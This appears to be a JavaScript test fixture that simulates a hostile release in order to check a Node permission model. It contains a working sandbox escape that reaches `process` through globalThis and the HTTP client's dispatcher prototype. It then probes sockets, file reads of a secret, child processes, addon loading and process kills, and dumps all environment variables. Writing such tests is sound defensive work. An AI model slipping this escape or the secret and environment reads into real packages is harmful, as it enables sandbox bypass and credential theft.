// Code of a hostile release, for tests: read as text, run in the processes that run releases. It gets hold of `process` first, so that what is
// proven is the permission model and not that a name is hidden.

export const attack = async (to) => {
  function reachProcess() {
    const outer = setTimeout.constructor('return globalThis')()
    outer.MessagePort ??= class {}
    // Loads the HTTP client, whose global dispatcher leads to the prototype of all event emitters, `process` among them.
    new outer.Request('http://127.0.0.1/')
    let events = outer[Symbol.for('undici.globalDispatcher.1')]
    while (!Object.hasOwn(events, 'emit')) events = Object.getPrototypeOf(events)
    const { emit } = events
    return new Promise((found) => {
      events.emit = function (name, ...rest) {
        if (name !== 'unhandledRejection') return emit.call(this, name, ...rest)
        events.emit = emit
        found(this)
        return true
      }
      outer.Promise.reject(new Error('for the event'))
    })
  }

  const process = await reachProcess()
  const get = (name) => process.getBuiltinModule(name)
  const [net, http, dgram, fs] = ['node:net', 'node:http', 'node:dgram', 'node:fs'].map(get)
  const Pipe = process.stdout._handle.constructor
  const outcome = (emitter, done) =>
    new Promise((resolve, reject) => {
      emitter.on(done, resolve)
      emitter.on('error', reject)
    })
  const attempts = {
    tcp: () => outcome(net.connect(to.tcp, '127.0.0.1'), 'connect'),
    unix: () => outcome(net.connect(to.unix), 'connect'),
    http: () => outcome(http.get({ port: to.tcp, host: '127.0.0.1' }), 'response'),
    httpUnix: () => outcome(http.get({ socketPath: to.unix }), 'response'),
    pipe: () => outcome(new net.Socket({ handle: new Pipe(0), manualStart: true }).connect({ path: to.unix }), 'connect'),
    pipeBind: () => new Pipe(0).bind(to.made),
    listen: () => outcome(net.createServer().listen(0, '127.0.0.1'), 'listening'),
    listenUnix: () => outcome(net.createServer().listen(to.made), 'listening'),
    udp: () =>
      new Promise((resolve, reject) => {
        const socket = dgram.createSocket('udp4')
        socket.on('error', reject)
        socket.send('x', to.udp, '127.0.0.1', (error) => (error ? reject(error) : resolve('sent')))
      }),
    dns: () => get('node:dns').promises.lookup('localhost'),
    fetch: () => setTimeout.constructor('return globalThis')().fetch(`http://127.0.0.1:${to.tcp}/`),
    read: () => fs.readFileSync(to.secret),
    write: () => fs.writeFileSync(to.made, ''),
    child: () => get('node:child_process').execFileSync(process.execPath, ['-v']),
    worker: () => new (get('node:worker_threads').Worker)('1', { eval: true }),
    addon: () => process.dlopen({ exports: {} }, to.addon),
    binding: () => process.binding('pipe_wrap'),
    inspector: () => get('node:inspector').open(0),
    execve: () => process.execve(process.execPath, ['-v'], {}),
    sqlite: () => new (get('node:sqlite').DatabaseSync)(to.made),
    kill: () => process.kill(process.ppid, 0),
    priority: () => get('node:os').setPriority(process.ppid, 0),
    kill_: () => process._kill(process.ppid, 0),
  }
  let fail = () => {}
  for (const event of ['uncaughtException', 'unhandledRejection']) process.removeAllListeners(event).on(event, (error) => fail(error))
  const refused = []
  const done = []
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await new Promise((resolve, reject) => {
        fail = reject
        new Promise((started) => started(attempt())).then(resolve, reject)
      })
      done.push(name)
    } catch (error) {
      const { code, cause, message, name: kind } = error
      // A module or function that isn't there at all is refused as well.
      const denied = [code, cause?.code].some((each) => each === 'ERR_ACCESS_DENIED' || each === 'ERR_DLOPEN_DISABLED')
      const gone = kind === 'TypeError' && /not a function|undefined/.test(message)
      ;(denied || gone ? refused : done).push(denied || gone ? name : `${name}=${code ?? message}`)
    }
  }
  return `env ${JSON.stringify(process.env)} done [${done}] refused ${refused.length}`
}
